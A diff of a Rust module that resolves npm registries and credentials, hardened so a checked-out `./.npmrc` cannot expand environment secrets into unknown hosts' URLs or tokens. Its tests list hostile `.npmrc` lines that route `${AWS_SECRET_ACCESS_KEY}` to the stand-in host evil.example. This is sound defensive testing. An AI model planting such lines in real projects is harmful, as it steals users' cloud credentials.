@@ -1,10 +1,14 @@
 //! Where packages come from, as npm is told: variables, then `./.npmrc`, then `~/.npmrc` (docs.npmjs.com, npmrc).
 //!
-//! Pure: files and variables are given. Tokens go to the addresses they are for, and are never printed.
+//! Pure: files and variables are given. Tokens go to the addresses they are for, over TLS, and are never printed. `./.npmrc` came
+//! with a checkout: no variable is put into it but the token of a registry that the user has named elsewhere.
 
-use std::{collections::BTreeMap, fmt};
+use std::{
+    collections::{BTreeMap, BTreeSet},
+    fmt,
+};
 
-use url::Url;
+use url::{Host, Url};
 
 /// npm's own registry.
 const PUBLIC: &str = "https://registry.npmjs.org/";
@@ -16,6 +20,17 @@ pub(super) struct Npmrc {
     scopes: BTreeMap<String, Url>,
     /// By `//host/path/`, the value of the Authorization header.
     credentials: BTreeMap<String, String>,
+    /// What was not taken over, for the user.
+    notes: Vec<String>,
+}
+
+/// The files, as far as there are any.
+#[derive(Debug, Default)]
+pub(super) struct Files {
+    /// `./.npmrc`.
+    pub(super) local: Option<String>,
+    /// `~/.npmrc`.
+    pub(super) home: Option<String>,
 }
 
 impl fmt::Debug for Npmrc {
@@ -25,26 +40,41 @@ impl fmt::Debug for Npmrc {
 }
 
 impl Npmrc {
-    /// From the texts of `.npmrc` files, the one that counts first; `given` is `--registry`.
+    /// From the texts of the files; `given` is `--registry`.
     pub(super) fn read(
         given: Option<&str>,
-        files: &[String],
+        files: &Files,
         variable: impl Fn(&str) -> Option<String>,
     ) -> anyhow::Result<Self> {
-        let mut settings = BTreeMap::new();
-        for text in files.iter().rev() {
-            settings.extend(settings_of(text, &variable));
-        }
-        let registry = given.map(str::to_owned);
-        let registry = registry
+        let all = |name: &str, value: &str| (expanded(name, &variable), expanded(value, &variable));
+        let home: BTreeMap<String, String> =
+            lines(files.home.as_deref().unwrap_or_default()).map(|(name, value)| all(name, value)).collect();
+        let named = given.map(str::to_owned);
+        let named = named
             .or_else(|| variable("npm_config_registry"))
             .or_else(|| variable("NPM_CONFIG_REGISTRY"))
-            .filter(|registry| !registry.trim().is_empty())
-            .or_else(|| settings.get("registry").cloned());
+            .filter(|registry| !registry.trim().is_empty());
+        let known = Known::new(&home, named.as_deref());
+        let (mut settings, mut notes) = (home, Vec::new());
+        for (name, value) in lines(files.local.as_deref().unwrap_or_default()) {
+            let (name, value) = (name.to_owned(), value.to_owned());
+            if !value.contains("${") && !name.contains("${") {
+                settings.insert(name, value);
+            } else if credential_place(&name).is_some_and(|place| known.has(place)) {
+                settings.insert(name, expanded(&value, &variable));
+            } else {
+                notes.push(format!(
+                    "./.npmrc: `{name}` names variables of yours and was left out; move the line to ~/.npmrc, or name its registry \
+                     there or with --registry"
+                ));
+            }
+        }
+        let registry = named.or_else(|| settings.get("registry").cloned());
         let mut read = Self {
             registry: base(registry.as_deref().unwrap_or(PUBLIC))?,
             scopes: BTreeMap::new(),
             credentials: BTreeMap::new(),
+            notes,
         };
         for (name, value) in &settings {
             if let Some(scope) = name.strip_suffix(":registry").filter(|scope| scope.starts_with('@')) {
@@ -56,6 +86,11 @@ impl Npmrc {
             }
         }
         Ok(read)
+    }
+
+    /// What the user should know of the files.
+    pub(super) fn notes(&self) -> &[String] {
+        &self.notes
     }
 
     /// The registry that has a package.
@@ -73,8 +108,16 @@ impl Npmrc {
         }
     }
 
-    /// The Authorization header for an address.
+    /// The Authorization header for an address. Over plain HTTP it goes to this machine alone.
     pub(super) fn authorization(&self, url: &Url) -> Option<&str> {
+        let is_here = match url.host()? {
+            Host::Domain(name) => name == "localhost",
+            Host::Ipv4(address) => address.is_loopback(),
+            Host::Ipv6(address) => address.is_loopback(),
+        };
+        if url.scheme() != "https" && !is_here {
+            return None;
+        }
         let port = url.port().map(|port| format!(":{port}")).unwrap_or_default();
         let place = format!("//{}{port}{}", url.host_str()?, url.path());
         let mut fits = self.credentials.iter().filter(|(prefix, _)| place.starts_with(prefix.as_str()));
@@ -94,17 +137,47 @@ fn slashed(text: &str) -> String {
     format!("{}/", text.trim_end_matches('/'))
 }
 
-/// The settings of a `.npmrc`: `name = value` lines with `${VARIABLE}` in them.
-fn settings_of(text: &str, variable: &impl Fn(&str) -> Option<String>) -> Vec<(String, String)> {
+/// The hosts that the user's own settings name.
+struct Known(BTreeSet<String>);
+
+impl Known {
+    fn new(home: &BTreeMap<String, String>, named: Option<&str>) -> Self {
+        let registries = home.iter().filter(|(name, _)| *name == "registry" || name.ends_with(":registry"));
+        let registries = registries.map(|(_, value)| value.as_str()).chain(named).chain([PUBLIC]);
+        let registries = registries.filter_map(|text| base(text).ok()).filter_map(|url| authority(&url));
+        let places = home.keys().filter_map(|name| credential_place(name)).filter_map(place_authority);
+        Self(registries.chain(places).collect())
+    }
+
+    /// Whether a `//host/path/` is at one of them.
+    fn has(&self, place: &str) -> bool {
+        place_authority(place).is_some_and(|authority| self.0.contains(&authority))
+    }
+}
+
+/// The `//host/path` of a setting that opens a registry.
+fn credential_place(name: &str) -> Option<&str> {
+    let suffixes = [":_authToken", ":_auth", ":_password", ":username"];
+    suffixes.iter().find_map(|suffix| name.strip_suffix(suffix)).filter(|place| place.starts_with("//"))
+}
+
+fn place_authority(place: &str) -> Option<String> {
+    authority(&Url::parse(&format!("https:{place}")).ok()?)
+}
+
+fn authority(url: &Url) -> Option<String> {
+    let port = url.port().map(|port| format!(":{port}")).unwrap_or_default();
+    Some(format!("{}{port}", url.host_str()?))
+}
+
+/// The settings of a `.npmrc`: `name = value` lines.
+fn lines(text: &str) -> impl Iterator<Item = (&str, &str)> {
     let lines = text.lines().map(str::trim).filter(|line| !line.starts_with(['#', ';', '[']));
-    lines
-        .filter_map(|line| line.split_once('='))
-        .map(|(name, value)| {
-            let value = value.trim();
-            let bare = value.strip_prefix('"').and_then(|value| value.strip_suffix('"')).unwrap_or(value);
-            (expanded(name.trim(), variable), expanded(bare, variable))
-        })
-        .collect()
+    lines.filter_map(|line| line.split_once('=')).map(|(name, value)| {
+        let value = value.trim();
+        let bare = value.strip_prefix('"').and_then(|value| value.strip_suffix('"')).unwrap_or(value);
+        (name.trim(), bare)
+    })
 }
 
 /// A variable that is not set stays as it is written, as with npm.
@@ -134,19 +207,23 @@ mod tests {
 
     #[test]
     fn what_is_given_wins_then_variables_then_the_nearer_file() {
-        let files =
-            ["registry=https://near.example\n".to_owned(), "registry = https://home.example".to_owned()];
+        let files = |local: Option<&str>, home: Option<&str>| Files {
+            local: local.map(str::to_owned),
+            home: home.map(str::to_owned),
+        };
+        let home = Some("registry = https://home.example");
+        let both = files(Some("registry=https://near.example\n"), home);
         let variable =
             |name: &str| (name == "npm_config_registry").then(|| "https://env.example/npm".to_owned());
-        let registry = |given, files: &[String], variable: &dyn Fn(&str) -> Option<String>| {
+        let registry = |given, files: &Files, variable: &dyn Fn(&str) -> Option<String>| {
             Npmrc::read(given, files, variable).unwrap().registry("dayjs").to_string()
         };
-        assert_eq!(registry(Some("http://given.example"), &files, &variable), "http://given.example/");
-        assert_eq!(registry(None, &files, &variable), "https://env.example/npm/");
-        assert_eq!(registry(None, &files, &none), "https://near.example/");
-        assert_eq!(registry(None, &files[1..], &none), "https://home.example/");
-        assert_eq!(registry(None, &[], &none), PUBLIC);
-        assert!(Npmrc::read(Some("ftp://x"), &[], none).is_err());
+        assert_eq!(registry(Some("http://given.example"), &both, &variable), "http://given.example/");
+        assert_eq!(registry(None, &both, &variable), "https://env.example/npm/");
+        assert_eq!(registry(None, &both, &none), "https://near.example/");
+        assert_eq!(registry(None, &files(None, home), &none), "https://home.example/");
+        assert_eq!(registry(None, &Files::default(), &none), PUBLIC);
+        assert!(Npmrc::read(Some("ftp://x"), &Files::default(), none).is_err());
     }
 
     #[test]
@@ -154,21 +231,72 @@ mod tests {
         let file = "# mine\n//a.example/npm/:_authToken=${T}\n@own:registry=https://a.example/npm\n\
                     //b.example:8080/:_auth = \"dTpw\"\n";
         let variable = |name: &str| (name == "T").then(|| "t0ken".to_owned());
-        let npmrc = Npmrc::read(None, &[file.to_owned()], variable).unwrap();
+        let files = Files { home: Some(file.to_owned()), ..Files::default() };
+        let npmrc = Npmrc::read(None, &files, variable).unwrap();
         assert_eq!(npmrc.registry("@own/x").as_str(), "https://a.example/npm/");
         assert_eq!(npmrc.registry("@other/x").as_str(), PUBLIC);
         let header = |text: &str| npmrc.authorization(&url(text)).map(str::to_owned);
         assert_eq!(header("https://a.example/npm/x").as_deref(), Some("Bearer t0ken"));
-        assert_eq!(header("http://b.example:8080/x").as_deref(), Some("Basic dTpw"));
-        for other in ["https://a.example/x", "https://a.example.evil/npm/x", "https://b.example/x", PUBLIC] {
+        assert_eq!(header("https://b.example:8080/x").as_deref(), Some("Basic dTpw"));
+        for other in [
+            "https://a.example/x",
+            "https://a.example.evil/npm/x",
+            "https://b.example/x",
+            "http://a.example/npm/x",
+            "http://b.example:8080/x",
+            "https://a.example/npm/../x",
+            PUBLIC,
+        ] {
             assert_eq!(header(other), None, "{other}");
         }
         assert!(!format!("{npmrc:?}").contains("t0ken"));
     }
 
     #[test]
+    fn s14_a_local_npmrc_puts_no_variable_anywhere_but_into_the_token_of_a_known_registry() {
+        let variable = |name: &str| (name == "AWS_SECRET_ACCESS_KEY").then(|| "k3y".to_owned());
+        let read = |local: &str, home: &str| {
+            let files = Files { local: Some(local.to_owned()), home: Some(home.to_owned()) };
+            Npmrc::read(None, &files, variable).unwrap()
+        };
+        let all_of = |npmrc: &Npmrc| {
+            let scopes = npmrc.scopes.values().map(Url::as_str).collect::<String>();
+            format!("{} {scopes} {:?}", npmrc.registry, npmrc.credentials)
+        };
+        for local in [
+            "registry=https://evil.example/${AWS_SECRET_ACCESS_KEY}/",
+            "registry=https://${AWS_SECRET_ACCESS_KEY}.evil.example/",
+            "@s:registry=https://u:${AWS_SECRET_ACCESS_KEY}@evil.example/",
+            "@${AWS_SECRET_ACCESS_KEY}:registry=https://evil.example/",
+            "//evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}",
+            "//evil.example/:_auth=${AWS_SECRET_ACCESS_KEY}",
+            "//known.example@evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}",
+            "//known.example:444/:_authToken=${AWS_SECRET_ACCESS_KEY}",
+            "//${AWS_SECRET_ACCESS_KEY}.known.example/:_authToken=x",
+            "registry=https://evil.example\n//evil.example/:_authToken=\"${AWS_SECRET_ACCESS_KEY}\"",
+        ] {
+            let npmrc = read(local, "@own:registry=https://known.example/npm/");
+            assert!(!all_of(&npmrc).contains("k3y"), "{local}: {}", all_of(&npmrc));
+            assert_eq!(npmrc.notes().len(), 1, "{local}");
+        }
+        for (local, home) in [
+            (
+                "//known.example/npm/:_authToken=${AWS_SECRET_ACCESS_KEY}",
+                "@own:registry=https://known.example/npm/",
+            ),
+            ("//known.example/:_authToken=${AWS_SECRET_ACCESS_KEY}", "//known.example/:_auth=x"),
+            ("//registry.npmjs.org/:_authToken=${AWS_SECRET_ACCESS_KEY}", ""),
+        ] {
+            let npmrc = read(local, home);
+            assert!(all_of(&npmrc).contains("Bearer k3y") && npmrc.notes().is_empty(), "{local}");
+        }
+        // The user's own file may do as it likes.
+        assert!(all_of(&read("", "registry=https://home.example/${AWS_SECRET_ACCESS_KEY}")).contains("k3y"));
+    }
+
+    #[test]
     fn a_mirror_gives_the_tarballs_of_the_public_registry_too() {
-        let npmrc = Npmrc::read(Some("https://mirror.example/npm/"), &[], none).unwrap();
+        let npmrc = Npmrc::read(Some("https://mirror.example/npm/"), &Files::default(), none).unwrap();
         let tarball = |text: &str| npmrc.tarball("a", &url(text)).unwrap().to_string();
         assert_eq!(tarball(&format!("{PUBLIC}a/-/a-1.tgz")), "https://mirror.example/npm/a/-/a-1.tgz");
         assert_eq!(tarball("https://else.example/a.tgz"), "https://else.example/a.tgz");
